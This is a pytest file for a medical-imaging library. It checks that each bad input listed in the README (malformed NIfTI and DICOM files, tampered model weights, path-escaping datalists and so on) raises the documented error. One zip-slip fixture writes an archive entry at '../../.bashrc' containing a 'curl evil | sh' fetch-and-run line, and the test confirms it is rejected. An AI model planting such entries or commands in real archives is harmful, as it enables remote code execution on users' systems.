"""The README's bad-input table, row by row: each bad input goes through the function every bundle uses for it, and the
error must read exactly as the README says (with ``<dir>`` for the test's folder and ``<sha256>`` for digests). A
last test checks that the README's table and these rows are the same, so neither can drift."""

from __future__ import annotations

import gzip
import re
import zipfile
from pathlib import Path

import h5py
import nibabel as nib
import numpy as np
import pydicom
import pytest
import torch
from monai.data import MetaTensor

from medgen_common.datalist import load_datalist
from medgen_common.dicom_io import SyntheticSeries, read_dicom_series, write_dicom_series
from medgen_common.elastography import strain_ratio
from medgen_common.integrity import extract_archive, verify_checksums, write_checksums
from medgen_common.mri_reconstruction import load_kspace
from medgen_common.runtime import load_trained
from medgen_common.text import WordTokenizer
from medgen_common.transforms import SafeLoadImaged, ValidateImaged

README = Path(__file__).resolve().parents[1] / "README.md"


def _nifti(path: Path, array: np.ndarray, affine=None) -> str:
    nib.save(nib.Nifti1Image(array.astype(np.float32), np.eye(4) if affine is None else affine), path)
    return str(path)


def _loaded(path: str, channel_dim=-1):
    return SafeLoadImaged("label", image_only=True, ensure_channel_first=True, channel_dim=channel_dim)({"label": path})


def wrong_spatial_shape(tmp: Path):
    data = _loaded(_nifti(tmp / "sub-01_label.nii.gz", np.full((8, 8, 5, 4), 0.25)))
    ValidateImaged("label", spatial_dims=2)(data)


def wrong_channel_count(tmp: Path):
    data = _loaded(_nifti(tmp / "sub-01_label.nii.gz", np.full((8, 8, 3), 1 / 3)))
    ValidateImaged("label", spatial_dims=2, channel_names=["background", "csf", "gm", "wm"])(data)


def label_not_summing_to_one(tmp: Path):
    label = np.zeros((8, 8, 4))
    label[..., 0] = 1.0
    label[:4, :, 2] = 1.0  # half the voxels are background and GM at once
    ValidateImaged("label", probabilities=True)(_loaded(_nifti(tmp / "sub-01_label.nii.gz", label)))


def nan_values(tmp: Path):
    image = np.ones((8, 8, 2))
    image[3, 3, 1] = np.nan
    SafeLoadImaged("image", image_only=True)({"image": _nifti(tmp / "sub-01_t1.nii.gz", image)})


def empty_lesion_mask(tmp: Path):
    strain_ratio(np.full((32, 32), 100.0), np.zeros((32, 32)))


def corrupt_nifti_header(tmp: Path):
    raw = gzip.decompress(Path(_nifti(tmp / "good.nii.gz", np.ones((8, 8, 2)))).read_bytes())
    header = bytearray(raw)
    header[40:56] = b"\xff" * 16  # dim[] and the datatype code
    (tmp / "sub-01_t1.nii").write_bytes(bytes(header))
    SafeLoadImaged("image", image_only=True)({"image": str(tmp / "sub-01_t1.nii")})


def truncated_file(tmp: Path):
    raw = Path(_nifti(tmp / "good.nii.gz", np.random.default_rng(0).random((32, 32, 8)))).read_bytes()
    (tmp / "sub-01_t1.nii.gz").write_bytes(raw[: len(raw) // 2])
    SafeLoadImaged("image", image_only=True)({"image": str(tmp / "sub-01_t1.nii.gz")})


def _series(folder: Path, affine=np.diag([0.9, 0.9, 3.0, 1.0]), slices: int = 3) -> list[Path]:
    volume = MetaTensor(torch.rand(1, 16, 16, slices, generator=torch.Generator().manual_seed(0)), affine=affine)
    return write_dicom_series(volume, folder, SyntheticSeries("scanner", "1"), "MR")


def dicom_without_pixel_data(tmp: Path):
    files = _series(tmp / "series")
    ds = pydicom.dcmread(files[1])
    del ds.PixelData
    ds.save_as(files[1])
    read_dicom_series(tmp / "series")


def mixed_orientation_series(tmp: Path):
    files = _series(tmp / "series")
    sagittal = _series(tmp / "other", affine=np.array([[0, 0, 3.0, 0], [0.9, 0, 0, 0], [0, 0.9, 0, 0], [0, 0, 0, 1]]))
    ds = pydicom.dcmread(sagittal[0])
    ds.SeriesInstanceUID = pydicom.dcmread(files[0]).SeriesInstanceUID  # a localiser filed in the same series
    ds.save_as(tmp / "series" / "LOC0001.dcm")
    read_dicom_series(tmp / "series")


def missing_weights_file(tmp: Path):
    load_trained(torch.nn.Linear(2, 2), tmp / "models" / "model.pt")


def weights_not_matching_checksum(tmp: Path):
    (tmp / "models").mkdir()
    torch.save(torch.nn.Linear(2, 2).state_dict(), tmp / "models" / "model.pt")
    write_checksums(tmp / "models", ["model.pt"])
    with open(tmp / "models" / "model.pt", "r+b") as file:  # one flipped byte
        file.seek(-1, 2)
        last = file.read(1)
        file.seek(-1, 2)
        file.write(bytes([last[0] ^ 1]))
    verify_checksums(tmp / "models")


def archive_with_dot_dot(tmp: Path):
    with zipfile.ZipFile(tmp / "bundle.zip", "w") as archive:
        archive.writestr("spade_vaegan/configs/inference.json", "{}")
        archive.writestr("spade_vaegan/../../.bashrc", "curl evil | sh")
    extract_archive(tmp / "bundle.zip", tmp / "bundles" / "spade_vaegan")


def datalist_outside_root(tmp: Path):
    (tmp / "data").mkdir()
    (tmp / "secret.nii.gz").write_bytes(b"")
    (tmp / "data" / "datalist.json").write_text('{"training": [{"image": "../secret.nii.gz"}]}')
    load_datalist(tmp / "data" / "datalist.json")


def unknown_prompt_token(tmp: Path):
    WordTokenizer()(["axial t2 weighted prostate mri with a tumour"])


def kspace_mask_mismatch(tmp: Path):
    with h5py.File(tmp / "case.h5", "w") as file:
        file["kspace"] = np.ones((1, 8, 8), dtype=np.complex64)
        file["mask"] = np.ones(6, dtype=np.float32)
    load_kspace({"kspace": str(tmp / "case.h5")})


# (README row title, trigger, exception type); the expected messages are the README's
ROWS = [
    ("wrong spatial shape (a 3D volume for a 2D model)", wrong_spatial_shape, ValueError),
    ("wrong channel count", wrong_channel_count, ValueError),
    ("label map not summing to 1", label_not_summing_to_one, ValueError),
    ("NaN or Inf in an input", nan_values, ValueError),
    ("empty mask where a lesion is needed (strain ratio)", empty_lesion_mask, ValueError),
    ("corrupt NIfTI header", corrupt_nifti_header, ValueError),
    ("truncated file", truncated_file, ValueError),
    ("DICOM without pixel data", dicom_without_pixel_data, ValueError),
    ("mixed-orientation series", mixed_orientation_series, ValueError),
    ("missing weights file", missing_weights_file, FileNotFoundError),
    ("weights not matching their published SHA-256", weights_not_matching_checksum, ValueError),
    ("archive with `..` or absolute paths", archive_with_dot_dot, ValueError),
    ("datalist entry pointing outside the dataset root", datalist_outside_root, ValueError),
    ("unknown prompt token", unknown_prompt_token, ValueError),
    ("k-space and mask shape mismatch", kspace_mask_mismatch, ValueError),
]


def readme_table() -> dict[str, str]:
    """Row title -> error message, from the README section 'Bad inputs and their errors'."""
    text = README.read_text()
    section = text.split("## Bad inputs and their errors", 1)[1].split("\n## ", 1)[0]
    rows = {}
    for line in section.splitlines():
        cells = [cell.strip() for cell in line.strip().strip("|").split(" | ")]
        if len(cells) == 3 and cells[2].startswith("`") and cells[2].endswith("`"):
            rows[cells[0]] = cells[2][1:-1]
    return rows


def _normalised(message: str, tmp: Path) -> str:
    message = message.replace(str(tmp), "<dir>")
    return re.sub(r"\b[0-9a-f]{64}\b", "<sha256>", message)


@pytest.mark.parametrize("title, trigger, error", ROWS, ids=[row[1].__name__ for row in ROWS])
def test_bad_input_gets_the_error_the_readme_states(tmp_path, title, trigger, error):
    expected = readme_table()[title]
    with pytest.raises(error) as info:
        trigger(tmp_path)
    assert _normalised(str(info.value), tmp_path) == expected


def test_the_readme_table_lists_exactly_these_rows():
    assert list(readme_table()) == [title for title, _, _ in ROWS]


def test_nothing_escaped_the_archive_or_was_left_half_extracted(tmp_path):
    with pytest.raises(ValueError):
        archive_with_dot_dot(tmp_path)
    assert not (tmp_path.parent / ".bashrc").exists()
    assert list((tmp_path / "bundles").iterdir()) == []  # no partial bundle, no staging folder left
